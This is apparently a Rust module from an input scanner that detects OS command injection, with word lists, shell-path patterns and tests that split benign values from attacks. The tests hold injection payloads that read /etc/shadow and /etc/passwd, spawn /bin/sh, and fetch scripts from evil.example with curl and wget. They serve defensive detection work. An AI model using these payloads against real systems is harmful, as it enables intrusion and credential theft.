//! OS command injection: a shell separator followed by a command.
//!
//! Free text has `&` and `;` too ("Smith & Sons; cat food"), so a command
//! word alone is not enough: it must be one that only a shell reads
//! (`whoami`, `uname`) or be followed by something only a shell argument
//! looks like (a flag, a path, a drive, a URL, another separator).

use super::triggers::{Feature, Hits};

/// Commands that need a shell-looking argument to count.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "dir",
    "type",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "ping",
    "nslookup",
    "sleep",
    "echo",
    "cmd",
    "powershell",
    "pwsh",
    "net",
    "rm",
    "chmod",
    "chown",
    "touch",
    "head",
    "tail",
    "more",
    "find",
    "cp",
    "mv",
    "kill",
    "telnet",
    "ftp",
    "tftp",
    "xterm",
    "certutil",
    "bitsadmin",
    "nohup",
    "busybox",
    "awk",
    "sed",
    "grep",
    "base64",
    "dig",
    "host",
    "traceroute",
    "ifconfig",
    "ipconfig",
    "whoami",
    "uname",
    "id",
    "pwd",
    "hostname",
    "systeminfo",
    "netstat",
    "env",
    "printenv",
    "tasklist",
    "ps",
    "set",
    "ver",
];

/// Commands that are never English words: enough on their own after a
/// separator.
const BARE: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "id",
    "pwd",
    "hostname",
    "systeminfo",
    "netstat",
    "printenv",
    "tasklist",
    "ls",
    "dir",
    "env",
    "ver",
    "ps",
    "sh",
    "bash",
];

/// Commands no benign value is named like, flagged even alone.
const ALONE: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "netstat",
    "tasklist",
    "printenv",
];

/// Command substitution: `` `cmd` `` or `$(cmd)` around a command word
/// (including the `true`/`false` probes scanners send).
fn substitution(b: &[u8]) -> Option<&'static str> {
    for (i, &c) in b.iter().enumerate() {
        let start = match c {
            b'`' => i + 1,
            b'$' if b.get(i + 1) == Some(&b'(') => i + 2,
            _ => continue,
        };
        let mut j = start;
        while j < b.len() && b[j] == b' ' {
            j += 1;
        }
        let end = b[j..]
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'.' || *c == b'/'))
            .map_or(b.len(), |p| j + p);
        let word = std::str::from_utf8(&b[j..end]).unwrap_or("");
        let word = word
            .rsplit('/')
            .next()
            .unwrap_or(word)
            .trim_end_matches(".exe");
        if COMMANDS.contains(&word) || word == "true" || word == "false" {
            return Some("command substitution (`...` or $(...))");
        }
    }
    None
}

/// Paths of shells and interpreters.
const BINARIES: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/cat",
    "/bin/nc",
    "/bin/ls",
    "/bin/id",
    "/usr/bin/",
    "/sbin/",
    "cmd.exe",
    "powershell.exe",
    "/bin/busybox",
    "system32/cmd",
    "/usr/bin/id",
];

fn shell_arg(rest: &[u8]) -> bool {
    let arg = rest
        .iter()
        .position(|&c| c != b' ' && c != b'\t')
        .map(|p| &rest[p..]);
    match arg {
        None => true,
        Some(a) => {
            matches!(
                a[0],
                b'-' | b'/'
                    | b'\\'
                    | b'.'
                    | b'$'
                    | b'~'
                    | b'|'
                    | b';'
                    | b'&'
                    | b'`'
                    | b'>'
                    | b'<'
                    | b'\''
                    | b'"'
                    | b'%'
            ) || (a.len() >= 2 && a[0].is_ascii_alphabetic() && a[1] == b':')
                || a.starts_with(b"http")
                || a.starts_with(b"ftp")
        }
    }
}

/// The command word starting at `i` (after optional quotes or a binary
/// path), whether it counts, given what follows it.
fn command_at(b: &[u8], mut i: usize) -> bool {
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\'' | b'"' | b'\\' | b'{' | b'(') {
        i += 1;
    }
    for prefix in [&b"/usr/bin/"[..], b"/usr/sbin/", b"/bin/", b"/sbin/"] {
        if b[i..].starts_with(prefix) {
            return true;
        }
    }
    let end = b[i..]
        .iter()
        .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'.'))
        .map_or(b.len(), |p| i + p);
    let word = &b[i..end];
    let word = word.strip_suffix(b".exe").unwrap_or(word);
    // Command names are 2 to 10 ASCII letters; most words are not.
    if !(2..=10).contains(&word.len()) || !word[0].is_ascii_alphabetic() {
        return false;
    }
    let Ok(word) = std::str::from_utf8(word) else {
        return false;
    };
    if !COMMANDS.contains(&word) {
        return false;
    }
    let rest = &b[end..];
    // `ps-AF` in a user agent is a locale, not `ps -AF`.
    if rest.first().is_some_and(|&c| {
        !matches!(
            c,
            b' ' | b'\t'
                | b';'
                | b'|'
                | b'&'
                | b'`'
                | b')'
                | b'\n'
                | b'>'
                | b'<'
                | b'#'
                | b'\''
                | b'"'
                | b'$'
        )
    }) {
        return false;
    }
    let ends = rest
        .iter()
        .find(|&&c| c != b' ' && c != b'\t')
        .is_none_or(|&c| matches!(c, b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'>' | b'#'));
    (BARE.contains(&word) && ends) || (!rest.trim_ascii().is_empty() && shell_arg(rest))
}

/// The command-injection rule `value` (decoded) breaks.
#[cfg(test)]
pub(super) fn detect(value: &str) -> Option<&'static str> {
    detect_with(value, super::triggers::scan(value))
}

/// [`detect`] given the prefilter's hits.
pub(super) fn detect_with(value: &str, h: Hits) -> Option<&'static str> {
    let lower = value.to_ascii_lowercase();
    let b = lower.as_bytes();
    if h.has(Feature::Ssi) && (lower.contains("<!--#exec") || lower.contains("<!--#include")) {
        return Some("a server-side include directive");
    }
    if h.has(Feature::Ifs) && (lower.contains("${ifs}") || lower.contains("$ifs$")) {
        return Some("a shell variable used as a separator (${IFS})");
    }
    if h.has(Feature::Binary) && BINARIES.iter().any(|p| lower.contains(p)) {
        return Some("a shell or interpreter path");
    }
    if let Some(rule) = substitution(b) {
        return Some(rule);
    }
    if h.has(Feature::Spawn)
        && [
            "system(",
            "exec(",
            "passthru(",
            "shell_exec(",
            "popen(",
            "proc_open(",
            "pcntl_exec(",
        ]
        .iter()
        .any(|f| {
            lower.match_indices(f).any(|(at, _)| {
                (at == 0 || !b[at - 1].is_ascii_alphanumeric())
                    && matches!(b.get(at + f.len()), Some(b'\'' | b'"' | b'`' | b'$'))
            })
        })
    {
        return Some("a call to a process-spawning function");
    }
    for (i, &c) in b.iter().enumerate() {
        let next = match c {
            b';' | b'|' | b'&' | b'`' | b'\n' => i + 1,
            b'$' if b.get(i + 1) == Some(&b'(') => i + 2,
            _ => continue,
        };
        if command_at(b, next) {
            return Some("a shell separator followed by a command");
        }
    }
    // No separator: the whole value is a command line (`dir c:\`), or a
    // command no value is named like (`whoami`, `'uname'`).
    let trimmed = lower.trim_start_matches([' ', '\t', '"', '\'']);
    let bare = trimmed.trim_end_matches([' ', '\t', '"', '\'', ';', '|', '&']);
    // Alone it may be a field name (`uname` for user name); quoted or
    // followed by a separator it is a command.
    if (ALONE.contains(&bare) || BARE.contains(&bare)) && bare.len() < lower.trim().len() {
        return Some("a shell command as the whole value");
    }
    let start = b.len() - trimmed.len();
    let word_end = trimmed.find([' ', '\t']).unwrap_or(trimmed.len());
    let first = trimmed[..word_end].trim_end_matches(".exe");
    if matches!(
        first,
        "dir"
            | "cat"
            | "ls"
            | "wget"
            | "curl"
            | "nc"
            | "bash"
            | "sh"
            | "powershell"
            | "cmd"
            | "ping"
            | "type"
    ) && command_at(b, start)
        && trimmed[word_end..]
            .trim_start()
            .starts_with(['-', '/', '\\', 'c', 'h'])
        && (trimmed[word_end..].contains(':')
            || trimmed[word_end..].trim_start().starts_with(['-', '/']))
    {
        return Some("a command line as a value");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        super::super::assert_caught(
            super::super::InjectionClass::Command,
            &[
                "x;cat /etc/shadow",
                "127.0.0.1 | whoami",
                "a && id",
                "`id`",
                "$(curl http://evil.example/x.sh)",
                "1;/bin/sh -i",
                " | dir c:",
                " dir c:/",
                "dir c: |",
                "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
                "a;ls -la",
                "cat${IFS}/etc/passwd",
                "x\nwget http://evil.example/a",
                "/usr/bin/id",
                "id;",
                "id|",
                ";system('id')",
                "`ping 127.0.0.1`",
                "`true`",
                "'uname'",
                "ping.exe -n 31 127.0.0.1",
            ],
            |a| detect(a).is_some(),
        );
    }

    #[test]
    fn benign() {
        for b in [
            "Smith & Sons; cat food",
            "Tom & Jerry",
            "R&D",
            "rent | utilities",
            "type of account",
            "A; set of values",
            "Invoice 2026-11 (final) - select plan",
            "ping pong club",
            "id",
            "sort=id",
            "uname",
            "whoami",
            "ls",
            "true",
            "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2",
            "my system (beta)",
        ] {
            assert_eq!(detect(b), None, "false positive on {b:?}");
        }
    }
}
